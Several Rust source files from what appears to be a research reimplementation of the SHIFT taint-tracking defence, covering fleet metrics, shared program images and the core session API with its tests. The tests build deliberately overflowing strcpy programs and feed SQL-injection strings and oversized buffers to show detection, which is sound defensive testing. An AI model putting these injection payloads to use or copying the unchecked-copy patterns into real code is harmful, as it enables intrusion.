        Some(self.sojourns[rank.clamp(1, self.sojourns.len()) - 1])
    }

    /// Largest sojourn latency observed.
    pub fn sojourn_max(&self) -> Option<u64> {
        self.sojourns.last().copied()
    }

    /// Requests served per modelled second at [`CLOCK_HZ`].
    pub fn requests_per_sec(&self) -> f64 {
        if self.wall_cycles == 0 {
            return 0.0;
        }
        self.served as f64 * CLOCK_HZ as f64 / self.wall_cycles as f64
    }

    /// Connections completed per modelled second at [`CLOCK_HZ`].
    pub fn completions_per_sec(&self) -> f64 {
        if self.wall_cycles == 0 {
            return 0.0;
        }
        self.completed as f64 * CLOCK_HZ as f64 / self.wall_cycles as f64
    }

    /// Modelled worker utilization: busy cycles over `wall × workers`.
    pub fn utilization(&self) -> f64 {
        let denom = self.wall_cycles.saturating_mul(self.config.workers.max(1) as u64);
        if denom == 0 {
            return 0.0;
        }
        self.busy_cycles as f64 / denom as f64
    }

    /// `true` when admission control shed load: the offered rate exceeded
    /// the saturation throughput of this configuration.
    pub fn saturated(&self) -> bool {
        self.shed > 0
    }

    /// Per-connection `(connection, state_digest)` pairs of completed
    /// connections — the width-invariance differential hook.
    pub fn state_digests(&self) -> Vec<(usize, u64)> {
        self.connections.iter().filter_map(|r| r.state_digest.map(|d| (r.connection, d))).collect()
    }

    /// The merged open-loop timeline: every completed connection's ring
    /// (on its dense slot track) plus the scheduler's shared track, ordered
    /// by `(cycle, worker, seq)`.
    pub fn merged_trace_events(&self) -> Vec<TraceEvent> {
        let mut rings: Vec<&TraceRing> =
            self.connections.iter().filter_map(|c| c.trace.as_ref()).collect();
        if let Some(s) = &self.scheduler_trace {
            rings.push(s);
        }
        merge_events(&rings)
    }

    /// The merged open-loop time-series samples, ordered by
    /// `(cycle, worker)`.
    pub fn merged_samples(&self) -> Vec<Sample> {
        let mut rings: Vec<&TraceRing> =
            self.connections.iter().filter_map(|c| c.trace.as_ref()).collect();
        if let Some(s) = &self.scheduler_trace {
            rings.push(s);
        }
        merge_samples(&rings)
    }
}
