//! Compile-once, serve-many program images.
//!
//! [`ProgramImage`] captures everything [`crate::Shift`] needs to stamp out
//! guest instances of an already-compiled program: the loaded
//! [`shift_machine::MachineSeed`] (decoded code and pristine memory, shared
//! between instances) plus the per-function spans the profiler attributes
//! cycles to. Building it once and spawning N instances costs one
//! compile+link+load plus N reference-count bumps — the pristine page table
//! is shared copy-on-write (DESIGN.md §15), so a spawn is O(1) in image
//! size and instances pay only for pages they dirty.

use std::sync::Arc;

use shift_compiler::CompiledProgram;
use shift_machine::{FuncSpan, Injection, Machine, MachineSeed};

/// A prepared, shareable program image: the product of one compile + link +
/// load, ready to spawn any number of independent guest instances.
///
/// The type is cheap to clone and safe to share across threads (wrap it in
/// an [`Arc`] or let scoped workers borrow it); spawned instances never
/// write back into the image.
#[derive(Clone, Debug)]
pub struct ProgramImage {
    seed: MachineSeed,
    func_spans: Arc<[FuncSpan]>,
}

impl ProgramImage {
    /// Prepares an image from a compiled program: loads the memory image
    /// once and freezes the profiler's function table.
    pub fn new(compiled: &CompiledProgram) -> ProgramImage {
        let func_spans: Vec<FuncSpan> = compiled
            .func_ranges
            .iter()
            .map(|(name, &(start, end))| FuncSpan { name: name.clone(), start, end })
            .collect();
        ProgramImage { seed: MachineSeed::new(&compiled.image), func_spans: func_spans.into() }
    }

    /// Spawns a fresh pristine instance: new CPU at the entry point, cold
    /// caches, zeroed stats, code shared with every sibling.
    pub fn spawn(&self) -> Machine {
        self.seed.spawn()
    }

    /// Spawns a fresh instance with a fault-injection schedule pre-armed
    /// (see [`MachineSeed::spawn_injected`]): the chaos-harness and
    /// replay-log path into the fleet.
    pub fn spawn_injected(&self, injections: &[(u64, Injection)]) -> Machine {
        self.seed.spawn_injected(injections)
    }

    /// A stable digest of the pristine image: the state digest a fresh
    /// spawn starts from. Replay logs record it so a replay against the
    /// wrong program (or a drifted compiler) is caught up front instead of
    /// surfacing as a baffling divergence.
    pub fn pristine_digest(&self) -> u64 {
        self.seed.spawn().state_digest()
    }

    /// The profiler function table of the compiled program.
    pub fn func_spans(&self) -> Vec<FuncSpan> {
        self.func_spans.to_vec()
    }

    /// Pristine pages resident in the image. Under copy-on-write sharing
    /// (DESIGN.md §15) these are shared with every spawn, not copied — see
    /// [`ProgramImage::shared_pages`] / [`ProgramImage::owned_pages`].
    pub fn resident_pages(&self) -> usize {
        self.seed.resident_pages()
    }

    /// Resident pristine pages every spawn shares by reference.
    pub fn shared_pages(&self) -> usize {
        self.seed.shared_pages()
    }

    /// Pages a spawn privately owns up front — always 0 for a frozen image;
    /// instances pay only for pages they dirty.
    pub fn owned_pages(&self) -> usize {
        self.seed.owned_pages()
    }

    /// Static code size in instructions.
    pub fn insn_count(&self) -> usize {
        self.seed.insn_count()
    }
}
