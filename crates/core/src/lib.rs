//! # shift-core — SHIFT itself
//!
//! This crate assembles the substrates into the system the paper describes:
//!
//! * [`policy`] — the Table-1 security policies, high-level (H1–H5, checked
//!   in software at sinks) and low-level (L1–L3, enforced by NaT-consumption
//!   faults);
//! * [`TaintConfig`] — the paper's configuration file: which input channels
//!   taint data, which policies are armed;
//! * [`Runtime`] — the host OS/policy engine the guest traps into: taint
//!   sources mark both the guest's in-memory bitmap and a host-side ground
//!   truth shadow; sinks evaluate policies over the *guest-maintained*
//!   bitmap;
//! * [`libc_program`] — the guest C library, written in IR and instrumented
//!   like application code (real `strcpy` overflows, real `%n`);
//! * [`Shift`] — the end-to-end session: link an application against the
//!   libc, compile it in a chosen [`Mode`], run it against a [`World`], and
//!   report the exit, the detection (if any), and full cycle accounting.
//!
//! ## Example: detect the paper's Figure-1 style overflow
//!
//! ```
//! use shift_core::{Mode, Shift, ShiftOptions, World, Granularity};
//! use shift_ir::{ProgramBuilder, Rhs};
//! use shift_isa::{sys, CmpRel};
//!
//! // A server that copies network input into a 16-byte stack buffer with
//! // strcpy (no length check), then trusts an adjacent value — guarded
//! // with a chk.s check on the critical data (§3.3.3).
//! let mut pb = ProgramBuilder::new();
//! pb.func("main", 0, |f| {
//!     let buf = f.local(16);
//!     let trusted = f.local(8);
//!     let req = f.local(128);
//!     let reqp = f.local_addr(req);
//!     let cap = f.iconst(120);
//!     f.syscall_void(sys::NET_READ, &[reqp, cap]);
//!     let bufp = f.local_addr(buf);
//!     f.call_void("strcpy", &[bufp, reqp]);          // overflow!
//!     let tp = f.local_addr(trusted);
//!     let v = f.load8(tp, 0);
//!     f.guard(v);                                    // chk.s before use
//!     let z = f.iconst(0);
//!     f.ret(Some(z));
//! });
//! let app = pb.build().unwrap();
//!
//! let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
//! let report = shift
//!     .run(&app, World::new().net(vec![b'A'; 64]))  // 64 > 16: smash
//!     .unwrap();
//! assert!(report.exit.is_detection());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod config;
mod libc;
pub mod policy;
mod runtime;

pub use config::{Source, TaintConfig};
pub use libc::{libc_program, LIBC_FUNCS};
pub use policy::Policy;
pub use runtime::{IoCostModel, Runtime, World};

// Re-export the pieces callers need to drive a session without extra deps.
pub use shift_compiler::{CompileError, CompiledProgram, Compiler, Mode, ShiftOptions};
pub use shift_machine::{Exit, Fault, NatFaultKind, Stats, Violation};
pub use shift_tagmap::Granularity;

use shift_ir::Program;
use shift_machine::Machine;

/// An end-to-end SHIFT session: configuration + compiler mode.
#[derive(Clone, Debug)]
pub struct Shift {
    mode: Mode,
    config: TaintConfig,
    io: IoCostModel,
    insn_limit: u64,
}

/// Everything observable about one guest run.
#[derive(Clone, Debug)]
pub struct RunReport {
    /// How the run ended.
    pub exit: Exit,
    /// Cycle/instruction accounting (cloned out of the machine).
    pub stats: Stats,
    /// The runtime, with its logs, outputs, filesystem, and shadow map.
    pub runtime: Runtime,
    /// The machine in its final state (registers, memory, caches).
    pub machine: Machine,
}

impl RunReport {
    /// The policy whose violation ended the run, if the run was a detection:
    /// high-level violations carry their policy name; NaT-consumption faults
    /// map to L1/L2/L3.
    pub fn detected_policy(&self) -> Option<Policy> {
        match &self.exit {
            Exit::Violation(v) => Policy::ALL.into_iter().find(|p| p.name() == v.policy),
            Exit::Fault(Fault::NatConsumption { kind, .. }) => Some(Policy::from_fault(*kind)),
            _ => None,
        }
    }

    /// Concatenated `print` output, lossily decoded.
    pub fn log_text(&self) -> String {
        self.runtime.log.iter().map(|l| String::from_utf8_lossy(l).into_owned()).collect()
    }
}

impl Shift {
    /// Creates a session with the paper's default-secure configuration.
    pub fn new(mode: Mode) -> Shift {
        Shift {
            mode,
            config: TaintConfig::default_secure(),
            io: IoCostModel::FREE,
            insn_limit: 500_000_000,
        }
    }

    /// Replaces the taint/policy configuration.
    pub fn with_config(mut self, config: TaintConfig) -> Shift {
        self.config = config;
        self
    }

    /// Sets the I/O latency model.
    pub fn with_io(mut self, io: IoCostModel) -> Shift {
        self.io = io;
        self
    }

    /// Overrides the instruction budget per run.
    pub fn with_insn_limit(mut self, limit: u64) -> Shift {
        self.insn_limit = limit;
        self
    }

    /// The session's compiler mode.
    pub fn mode(&self) -> Mode {
        self.mode
    }

    /// The tag granularity implied by the mode (`None` when uninstrumented).
    pub fn granularity(&self) -> Option<Granularity> {
        match self.mode {
            Mode::Uninstrumented => None,
            Mode::Shift(opts) => Some(opts.granularity),
            Mode::Shadow(gran) => Some(gran),
        }
    }

    /// Links `app` against the guest libc and compiles it in this session's
    /// mode.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR or unresolved symbols.
    pub fn compile(&self, app: &Program) -> Result<CompiledProgram, CompileError> {
        let mut linked = app.clone();
        linked.link(libc_program());
        Compiler::new(self.mode).compile(&linked)
    }

    /// Compiles (with libc) and runs `app` against `world`.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR or unresolved symbols.
    pub fn run(&self, app: &Program, world: World) -> Result<RunReport, CompileError> {
        let compiled = self.compile(app)?;
        Ok(self.run_compiled(&compiled, world))
    }

    /// Runs an already-compiled program against `world`.
    pub fn run_compiled(&self, compiled: &CompiledProgram, world: World) -> RunReport {
        let mut machine = Machine::new(&compiled.image);
        let mut runtime =
            Runtime::new(self.config.clone(), world, self.granularity()).with_io(self.io);
        let exit = machine.run(&mut runtime, self.insn_limit);
        RunReport { exit, stats: machine.stats.clone(), runtime, machine }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_ir::{ProgramBuilder, Rhs};
    use shift_isa::{sys, CmpRel};

    fn byte_shift() -> Shift {
        Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
    }

    /// Echo server: read network input, copy it with strcpy into a large
    /// enough buffer, write it back out. Benign.
    fn echo_app() -> shift_ir::Program {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(256);
            let reqp = f.local_addr(req);
            let copy = f.local(256);
            let copyp = f.local_addr(copy);
            let cap = f.iconst(255);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let end = f.add(reqp, n);
            let z = f.iconst(0);
            f.store1(z, end, 0);
            f.call_void("strcpy", &[copyp, reqp]);
            let len = f.call("strlen", &[copyp]);
            f.syscall_void(sys::NET_WRITE, &[copyp, len]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        pb.build().unwrap()
    }

    #[test]
    fn echo_round_trip_with_taint_tracking() {
        let report =
            byte_shift().run(&echo_app(), World::new().net(&b"hello over the wire"[..])).unwrap();
        assert!(report.exit.is_clean(), "{:?}", report.exit);
        assert_eq!(report.runtime.net_output, b"hello over the wire");
        assert_eq!(report.detected_policy(), None);
    }

    #[test]
    fn taint_flows_through_strcpy_into_the_copy() {
        // After the run, the *copy* buffer (written only by instrumented
        // guest code, never by the runtime) must be tainted in the guest
        // bitmap, and must agree with ground truth... which requires the
        // shadow to have been propagated. The host shadow only knows source
        // writes, so here we check the guest bitmap directly via the
        // violation-free sink path: sending tainted bytes to sql_exec with a
        // quote must trip H3 *after the copy*.
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(128);
            let reqp = f.local_addr(req);
            let copy = f.local(128);
            let copyp = f.local_addr(copy);
            let cap = f.iconst(127);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let end = f.add(reqp, n);
            let z = f.iconst(0);
            f.store1(z, end, 0);
            f.call_void("strcpy", &[copyp, reqp]);
            let len = f.call("strlen", &[copyp]);
            f.syscall_void(sys::SQL_EXEC, &[copyp, len]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        let app = pb.build().unwrap();
        let report =
            byte_shift().run(&app, World::new().net(&b"x' OR '1'='1"[..])).unwrap();
        assert_eq!(report.detected_policy(), Some(Policy::H3), "{:?}", report.exit);
    }

    #[test]
    fn same_attack_succeeds_without_shift() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(128);
            let reqp = f.local_addr(req);
            let cap = f.iconst(127);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            f.syscall_void(sys::SQL_EXEC, &[reqp, n]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        let app = pb.build().unwrap();
        let shift = Shift::new(Mode::Uninstrumented);
        let report = shift.run(&app, World::new().net(&b"x' OR '1'='1"[..])).unwrap();
        assert!(report.exit.is_clean());
        assert_eq!(report.runtime.sql_log.len(), 1, "the injection executed unnoticed");
    }

    #[test]
    fn overflow_into_function_pointer_trips_l3() {
        // Figure-1-shaped: strcpy past a small buffer into an adjacent
        // function pointer; calling through it moves tainted data into a
        // branch register.
        let mut pb = ProgramBuilder::new();
        pb.func("helper", 0, |f| f.ret(None));
        pb.func("main", 0, |f| {
            let small = f.local(16);
            let fnptr = f.local(8);
            let req = f.local(128);
            let reqp = f.local_addr(req);
            // Initialize the "GOT entry" with a legitimate value.
            let fpp = f.local_addr(fnptr);
            let legit = f.iconst(7);
            f.store8(legit, fpp, 0);
            let cap = f.iconst(127);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let end = f.add(reqp, n);
            let z = f.iconst(0);
            f.store1(z, end, 0);
            let smallp = f.local_addr(small);
            f.call_void("strcpy", &[smallp, reqp]); // may overflow into fnptr
            // Use the pointer as a load address (tainted ⇒ L1 fault).
            let v = f.load8(fpp, 0);
            let t = f.load1(v, 0);
            let folded = f.andi(t, 0);
            f.ret(Some(folded));
        });
        let app = pb.build().unwrap();

        // Benign input fits: no alarm, pointer untouched.
        let benign = byte_shift()
            .run(&app, World::new().net(&b"short"[..]).file("x", vec![7u8; 8]))
            .unwrap();
        assert!(!benign.exit.is_detection(), "false positive: {:?}", benign.exit);

        // 40 tainted bytes smash through the 16-byte buffer into fnptr.
        let atk = byte_shift().run(&app, World::new().net(vec![b'A'; 40])).unwrap();
        assert!(atk.exit.is_detection(), "{:?}", atk.exit);
        assert_eq!(atk.detected_policy(), Some(Policy::L1));
    }

    #[test]
    fn word_level_tracking_also_detects() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let cap = f.iconst(63);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            f.syscall_void(sys::SQL_EXEC, &[reqp, n]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        let app = pb.build().unwrap();
        let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Word)));
        let report = shift.run(&app, World::new().net(&b"';--"[..])).unwrap();
        assert_eq!(report.detected_policy(), Some(Policy::H3));
    }

    #[test]
    fn benign_workload_has_no_false_positives_across_modes() {
        // Compute over tainted input without illegal uses: checksum bytes,
        // with a sanitized table lookup.
        let mut pb = ProgramBuilder::new();
        let table = pb.global("tbl", 256, (0u8..=255).collect());
        pb.func("main", 0, move |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let cap = f.iconst(64);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let tbl = f.global_addr(table);
            let sum = f.iconst(0);
            f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
                let p = f.add(reqp, i);
                let c = f.load1(p, 0);
                // Bounds-checked table index (the §3.3.2 pattern).
                let masked = f.andi(c, 0xff);
                let idx = f.sanitize(masked);
                let tp = f.add(tbl, idx);
                let tv = f.load1(tp, 0);
                let s = f.add(sum, tv);
                f.assign(sum, s);
            });
            f.if_cmp(CmpRel::Ne, sum, Rhs::Imm(0), |f| {
                let ok = f.iconst(0);
                f.ret(Some(ok));
            });
            let z = f.iconst(0);
            f.ret(Some(z));
        });
        let app = pb.build().unwrap();
        for mode in [
            Mode::Uninstrumented,
            Mode::Shift(ShiftOptions::baseline(Granularity::Byte)),
            Mode::Shift(ShiftOptions::baseline(Granularity::Word)),
            Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)),
        ] {
            let report = Shift::new(mode)
                .run(&app, World::new().net(&b"payload bytes"[..]))
                .unwrap();
            assert!(report.exit.is_clean(), "{mode:?}: {:?}", report.exit);
        }
    }

    #[test]
    fn parsed_config_drives_the_session() {
        let cfg = TaintConfig::parse("source network off\npolicy H3 on\n").unwrap();
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let cap = f.iconst(63);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            f.syscall_void(sys::SQL_EXEC, &[reqp, n]);
            let z = f.iconst(0);
            f.ret(Some(z));
        });
        let app = pb.build().unwrap();
        // Network is not a source: the injection goes unnoticed.
        let report =
            byte_shift().with_config(cfg).run(&app, World::new().net(&b"';--"[..])).unwrap();
        assert!(report.exit.is_clean());
    }
}
