//! # shift-core — SHIFT itself
//!
//! This crate assembles the substrates into the system the paper describes:
//!
//! * [`policy`] — the Table-1 security policies, high-level (H1–H5, checked
//!   in software at sinks) and low-level (L1–L3, enforced by NaT-consumption
//!   faults);
//! * [`TaintConfig`] — the paper's configuration file: which input channels
//!   taint data, which policies are armed;
//! * [`Runtime`] — the host OS/policy engine the guest traps into: taint
//!   sources mark both the guest's in-memory bitmap and a host-side ground
//!   truth shadow; sinks evaluate policies over the *guest-maintained*
//!   bitmap;
//! * [`libc_program`] — the guest C library, written in IR and instrumented
//!   like application code (real `strcpy` overflows, real `%n`);
//! * [`Shift`] — the end-to-end session: link an application against the
//!   libc, compile it in a chosen [`Mode`], run it against a [`World`], and
//!   report the exit, the detection (if any), and full cycle accounting.
//!
//! ## Example: detect the paper's Figure-1 style overflow
//!
//! ```
//! use shift_core::{Mode, Shift, ShiftOptions, World, Granularity};
//! use shift_ir::{ProgramBuilder, Rhs};
//! use shift_isa::{sys, CmpRel};
//!
//! // A server that copies network input into a 16-byte stack buffer with
//! // strcpy (no length check), then trusts an adjacent value — guarded
//! // with a chk.s check on the critical data (§3.3.3).
//! let mut pb = ProgramBuilder::new();
//! pb.func("main", 0, |f| {
//!     let buf = f.local(16);
//!     let trusted = f.local(8);
//!     let req = f.local(128);
//!     let reqp = f.local_addr(req);
//!     let cap = f.iconst(120);
//!     f.syscall_void(sys::NET_READ, &[reqp, cap]);
//!     let bufp = f.local_addr(buf);
//!     f.call_void("strcpy", &[bufp, reqp]);          // overflow!
//!     let tp = f.local_addr(trusted);
//!     let v = f.load8(tp, 0);
//!     f.guard(v);                                    // chk.s before use
//!     let z = f.iconst(0);
//!     f.ret(Some(z));
//! });
//! let app = pb.build().unwrap();
//!
//! let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
//! let report = shift
//!     .run(&app, World::new().net(vec![b'A'; 64]))  // 64 > 16: smash
//!     .unwrap();
//! assert!(report.exit.is_detection());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod config;
pub mod debug;
pub mod event;
pub mod fleet;
mod image;
mod libc;
pub mod metrics;
pub mod policy;
pub mod replay;
mod runtime;

pub use config::{Source, TaintConfig, ViolationAction};
pub use debug::Postmortem;
pub use event::{Disposition, OpenLoopConfig, Segment};
pub use fleet::{ConnectionReport, FaultPlan, Fleet, FleetReport, OpenLoopReport, CLOCK_HZ};
pub use image::ProgramImage;
pub use libc::{libc_program, LIBC_FUNCS};
pub use policy::Policy;
pub use replay::{OpenLoopLog, ReplayLog, ReplayOutcome, ShrinkResult, REPLAY_SCHEMA_VERSION};
pub use runtime::{IoCostModel, Runtime, World};

// Re-export the pieces callers need to drive a session without extra deps.
pub use shift_compiler::{CompileError, CompiledProgram, Compiler, Mode, ShiftOptions};
pub use shift_machine::{Exit, Fault, Injection, NatFaultKind, Stats, Violation};
pub use shift_machine::{FuncSpan, Profiler, TaintEvent, TaintJournal, TaintObserver};
pub use shift_obs::{
    chrome_trace_json, merge_events, merge_samples, timeline_digest, total_dropped, Json, Registry,
    Sample, TraceEvent, TraceKind, TraceRing, CYCLES_PER_US, DEFAULT_TRACE_CAP, SCHEMA_VERSION,
};
pub use shift_tagmap::Granularity;

use shift_ir::Program;
use shift_machine::Machine;

/// Flight-recorder knobs for a serve session (see DESIGN.md §14).
///
/// `cap` bounds the per-connection event ring
/// ([`DEFAULT_TRACE_CAP`] events by default); `sample_cycles` arms the
/// time-series sampler to snapshot the serving counters every N modelled
/// cycles (`0`, the default, disarms sampling).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct FlightConfig {
    /// Maximum events held per connection ring (oldest evicted beyond it).
    pub cap: usize,
    /// Modelled-cycle sampling period for the time series (`0` = off).
    pub sample_cycles: u64,
}

impl Default for FlightConfig {
    fn default() -> FlightConfig {
        FlightConfig { cap: DEFAULT_TRACE_CAP, sample_cycles: 0 }
    }
}

/// An end-to-end SHIFT session: configuration + compiler mode.
#[derive(Clone, Debug)]
pub struct Shift {
    mode: Mode,
    config: TaintConfig,
    io: IoCostModel,
    insn_limit: u64,
    fuel: u64,
    trace_taint: bool,
    profile: bool,
    flight: Option<FlightConfig>,
}

/// Everything observable about one guest run.
#[derive(Clone, Debug)]
pub struct RunReport {
    /// How the run ended.
    pub exit: Exit,
    /// Cycle/instruction accounting (cloned out of the machine).
    pub stats: Stats,
    /// The runtime, with its logs, outputs, filesystem, and shadow map.
    pub runtime: Runtime,
    /// The machine in its final state (registers, memory, caches).
    pub machine: Machine,
}

impl RunReport {
    /// The policy whose violation ended the run, if the run was a detection:
    /// high-level violations carry their policy name; NaT-consumption faults
    /// map to L1/L2/L3.
    pub fn detected_policy(&self) -> Option<Policy> {
        match &self.exit {
            Exit::Violation(v) => Policy::ALL.into_iter().find(|p| p.name() == v.policy),
            Exit::Fault(Fault::NatConsumption { kind, .. }) => Some(Policy::from_fault(*kind)),
            _ => None,
        }
    }

    /// Concatenated `print` output, lossily decoded.
    pub fn log_text(&self) -> String {
        self.runtime.log.iter().map(|l| String::from_utf8_lossy(l).into_owned()).collect()
    }

    /// The taint provenance chain behind a detection, when taint tracing was
    /// enabled ([`Shift::with_taint_trace`]): policy violations carry the
    /// chain directly; NaT-consumption faults fall back to the observer's
    /// fault chain.
    pub fn taint_chain(&self) -> Option<&str> {
        match &self.exit {
            Exit::Violation(v) => v.provenance.as_deref(),
            Exit::Fault(Fault::NatConsumption { .. }) => {
                self.machine.taint_observer().and_then(|o| o.fault_chain())
            }
            _ => None,
        }
    }
}

impl Shift {
    /// Creates a session with the paper's default-secure configuration.
    pub fn new(mode: Mode) -> Shift {
        Shift {
            mode,
            config: TaintConfig::default_secure(),
            io: IoCostModel::FREE,
            insn_limit: 500_000_000,
            fuel: 50_000_000,
            trace_taint: false,
            profile: false,
            flight: None,
        }
    }

    /// Enables taint-flow tracing: the machine records taint births,
    /// propagations, and sink hits in a journal, and violations carry a
    /// provenance chain from source channel to sink. Diagnostic-only: the
    /// modelled cycle counts are unchanged.
    pub fn with_taint_trace(mut self) -> Shift {
        self.trace_taint = true;
        self
    }

    /// Enables the cycle-attribution profiler: per-guest-function folded
    /// stacks and hot-block ranking. Diagnostic-only, like
    /// [`Shift::with_taint_trace`].
    pub fn with_profile(mut self) -> Shift {
        self.profile = true;
        self
    }

    /// Arms the flight recorder for serve sessions: deterministic
    /// span/instant timelines of connection/request/recovery/violation/
    /// syscall events plus optional time-series sampling, per
    /// [`FlightConfig`]. Diagnostic-only, like [`Shift::with_taint_trace`]
    /// — modelled results are bit-identical with or without it — and unlike
    /// the taint observer it does not demote execution to the cold dispatch
    /// tier (every recording site is a boundary path; DESIGN.md §14).
    pub fn with_flight_recorder(mut self, cfg: FlightConfig) -> Shift {
        self.flight = Some(cfg);
        self
    }

    /// Replaces the taint/policy configuration.
    pub fn with_config(mut self, config: TaintConfig) -> Shift {
        self.config = config;
        self
    }

    /// Sets the I/O latency model.
    pub fn with_io(mut self, io: IoCostModel) -> Shift {
        self.io = io;
        self
    }

    /// Overrides the instruction budget per run.
    pub fn with_insn_limit(mut self, limit: u64) -> Shift {
        self.insn_limit = limit;
        self
    }

    /// Overrides the per-transaction watchdog fuel budget used by
    /// [`Shift::serve`]: a request that executes this many instructions
    /// without finishing is aborted and rolled back.
    pub fn with_fuel(mut self, fuel: u64) -> Shift {
        self.fuel = fuel;
        self
    }

    /// The session's compiler mode.
    pub fn mode(&self) -> Mode {
        self.mode
    }

    /// The session's taint/policy configuration.
    pub fn config(&self) -> &TaintConfig {
        &self.config
    }

    /// The session's I/O latency model.
    pub fn io(&self) -> IoCostModel {
        self.io
    }

    /// The session's whole-run instruction budget.
    pub fn insn_limit(&self) -> u64 {
        self.insn_limit
    }

    /// The session's per-transaction watchdog fuel budget.
    pub fn fuel(&self) -> u64 {
        self.fuel
    }

    /// The session's flight-recorder configuration, when armed.
    pub fn flight(&self) -> Option<FlightConfig> {
        self.flight
    }

    /// The tag granularity implied by the mode (`None` when uninstrumented).
    pub fn granularity(&self) -> Option<Granularity> {
        match self.mode {
            Mode::Uninstrumented => None,
            Mode::Shift(opts) => Some(opts.granularity),
            Mode::Shadow(gran) => Some(gran),
        }
    }

    /// Links `app` against the guest libc and compiles it in this session's
    /// mode.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR or unresolved symbols.
    pub fn compile(&self, app: &Program) -> Result<CompiledProgram, CompileError> {
        let mut linked = app.clone();
        linked.link(libc_program());
        Compiler::new(self.mode).compile(&linked)
    }

    /// Compiles (with libc) and runs `app` against `world`.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR or unresolved symbols.
    pub fn run(&self, app: &Program, world: World) -> Result<RunReport, CompileError> {
        let compiled = self.compile(app)?;
        Ok(self.run_compiled(&compiled, world))
    }

    /// Builds the per-function spans the profiler attributes cycles to.
    fn func_spans(compiled: &CompiledProgram) -> Vec<FuncSpan> {
        compiled
            .func_ranges
            .iter()
            .map(|(name, &(start, end))| FuncSpan { name: name.clone(), start, end })
            .collect()
    }

    /// Applies the session's observability options to a fresh machine.
    fn arm_observability(&self, machine: &mut Machine, compiled: &CompiledProgram) {
        if self.trace_taint {
            machine.enable_taint_observer();
        }
        if self.profile {
            machine.enable_profiler(Self::func_spans(compiled));
        }
    }

    /// Runs an already-compiled program against `world`.
    pub fn run_compiled(&self, compiled: &CompiledProgram, world: World) -> RunReport {
        let mut machine = Machine::new(&compiled.image);
        self.arm_observability(&mut machine, compiled);
        let mut runtime =
            Runtime::new(self.config.clone(), world, self.granularity()).with_io(self.io);
        let exit = machine.run(&mut runtime, self.insn_limit);
        RunReport { exit, stats: machine.stats.clone(), runtime, machine }
    }

    /// Compiles (with libc) and serves `world`'s request stream resiliently:
    /// per-request transactions, watchdog fuel, rollback on faults and on
    /// violations whose [`ViolationAction`] permits recovery.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR or unresolved symbols.
    pub fn serve(&self, app: &Program, world: World) -> Result<ServeReport, CompileError> {
        let compiled = self.compile(app)?;
        Ok(self.serve_compiled(&compiled, world))
    }

    /// Compiles (with libc) and prepares a [`ProgramImage`]: the
    /// compile-once half of the fleet-serving fast path. Spawning instances
    /// from the image costs a copy of the resident pristine pages instead
    /// of a full compile + link + load.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR or unresolved symbols.
    pub fn image(&self, app: &Program) -> Result<ProgramImage, CompileError> {
        Ok(ProgramImage::new(&self.compile(app)?))
    }

    /// Serves an already-compiled program resiliently (see [`Shift::serve`])
    /// by preparing a [`ProgramImage`] for this call. Callers serving the
    /// same program repeatedly should prepare the image once with
    /// [`Shift::image`] and use [`Shift::serve_image`].
    pub fn serve_compiled(&self, compiled: &CompiledProgram, world: World) -> ServeReport {
        self.serve_image(&ProgramImage::new(compiled), world)
    }

    /// Serves `world`'s request stream on a fresh instance spawned from a
    /// prebuilt [`ProgramImage`], leaving the image pristine for the next
    /// spawn.
    pub fn serve_image(&self, image: &ProgramImage, world: World) -> ServeReport {
        self.serve_image_injected(image, world, &[])
    }

    /// [`Shift::serve_image`] with a fault-injection schedule pre-armed on
    /// the spawned instance: each `(countdown, injection)` pair fires after
    /// that many retired instructions ([`shift_machine::Machine::inject_after`]).
    /// The schedule is part of the run's deterministic identity — the chaos
    /// harness perturbs fleet instances through this path, and the replay
    /// log re-arms the recorded schedule to reproduce the perturbed run
    /// bit-identically.
    pub fn serve_image_injected(
        &self,
        image: &ProgramImage,
        world: World,
        injections: &[(u64, Injection)],
    ) -> ServeReport {
        let mut machine = image.spawn_injected(injections);
        if self.trace_taint {
            machine.enable_taint_observer();
        }
        if self.profile {
            machine.enable_profiler(image.func_spans());
        }
        if let Some(cfg) = self.flight {
            machine.enable_flight_recorder(cfg.cap, cfg.sample_cycles);
        }
        let mut session = self.open_session(machine, world, false);
        session.run_to_completion();
        session.finish()
    }

    /// Opens a [`ServeSession`] on an instance spawned from `image` — the
    /// resumable form of [`Shift::serve_image_injected`]. With
    /// `yield_on_io = true` the session parks at every I/O point (see
